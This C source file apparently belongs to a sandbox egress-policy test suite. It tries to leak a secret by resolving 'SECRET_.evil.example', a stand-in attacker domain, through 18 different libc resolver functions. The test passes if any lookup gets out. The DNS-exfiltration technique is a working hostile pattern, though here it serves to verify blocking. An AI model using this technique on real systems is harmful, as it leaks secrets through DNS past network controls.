// class: network
// rule: outbound_connectivity
// policy: names.yaml
// success: a C program looks up a name that carries data, by each function of libc in turn
// proof: query
// needs: resolver
#include "attack.h"
#include <netdb.h>
#include <arpa/nameser.h>
#include <resolv.h>

static char name[300], first[100];
static unsigned char answer[2048], packet[512];
static struct hostent host, *found;
static struct netent net, *network;
static char room[4096];

static int by_getaddrinfo(void)
{
    struct addrinfo *list;
    return getaddrinfo(name, NULL, NULL, &list);
}
static int by_getaddrinfo_a(void)
{
    struct gaicb one = {.ar_name = name}, *list[1] = {&one};
    return getaddrinfo_a(GAI_WAIT, list, 1, NULL) != 0 || gai_error(&one) != 0;
}
static int by_gethostbyname(void) { return gethostbyname(name) == NULL; }
static int by_gethostbyname2(void) { return gethostbyname2(name, AF_INET) == NULL; }
static int by_gethostbyname_r(void)
{
    int e;
    return gethostbyname_r(name, &host, room, sizeof room, &found, &e) || !found;
}
static int by_gethostbyname2_r(void)
{
    int e;
    return gethostbyname2_r(name, AF_INET, &host, room, sizeof room, &found, &e) || !found;
}
static int by_getnetbyname(void) { return getnetbyname(name) == NULL; }
static int by_getnetbyname_r(void)
{
    int e;
    return getnetbyname_r(name, &net, room, sizeof room, &network, &e) || !network;
}
static int by_res_query(void) { return res_query(name, C_IN, T_A, answer, sizeof answer) < 0; }
static int by_res_search(void) { return res_search(name, C_IN, T_A, answer, sizeof answer) < 0; }
static int by_res_querydomain(void)
{
    return res_querydomain(first, "evil.example", C_IN, T_A, answer, sizeof answer) < 0;
}
static int by_res_querydomain_alone(void)
{
    return res_querydomain(name, NULL, C_IN, T_A, answer, sizeof answer) < 0;
}
static int by_res_nquery(void)
{
    return res_nquery(&_res, name, C_IN, T_A, answer, sizeof answer) < 0;
}
static int by_res_nsearch(void)
{
    return res_nsearch(&_res, name, C_IN, T_A, answer, sizeof answer) < 0;
}
static int by_res_nquerydomain(void)
{
    return res_nquerydomain(&_res, first, "evil.example", C_IN, T_A, answer, sizeof answer) < 0;
}
static int by_res_nquerydomain_alone(void)
{
    return res_nquerydomain(&_res, name, NULL, C_IN, T_A, answer, sizeof answer) < 0;
}
static int by_res_send(void)
{
    int size = res_mkquery(QUERY, name, C_IN, T_A, NULL, 0, NULL, packet, sizeof packet);
    return res_send(packet, size, answer, sizeof answer) < 0;
}
static int by_res_nsend(void)
{
    int size = res_mkquery(QUERY, name, C_IN, T_TXT, NULL, 0, NULL, packet, sizeof packet);
    return res_nsend(&_res, packet, size, answer, sizeof answer) < 0;
}

int main(void)
{
    int (*const ways[])(void) = {
        by_getaddrinfo,    by_getaddrinfo_a,         by_gethostbyname,
        by_gethostbyname2, by_gethostbyname_r,       by_gethostbyname2_r,
        by_getnetbyname,   by_getnetbyname_r,        by_res_query,
        by_res_search,     by_res_querydomain,       by_res_nquery,
        by_res_nsearch,    by_res_nquerydomain,      by_res_send,
        by_res_nsend,      by_res_querydomain_alone, by_res_nquerydomain_alone,
    };
    int passed = 0;
    snprintf(name, sizeof name, "%s.evil.example", SECRET_);
    snprintf(first, sizeof first, "%s", SECRET_);
    res_init();
    for (unsigned i = 0; i < sizeof ways / sizeof *ways; i++) passed += ways[i]() == 0;
    return passed > 0 ? reached() : stopped("every way");
}
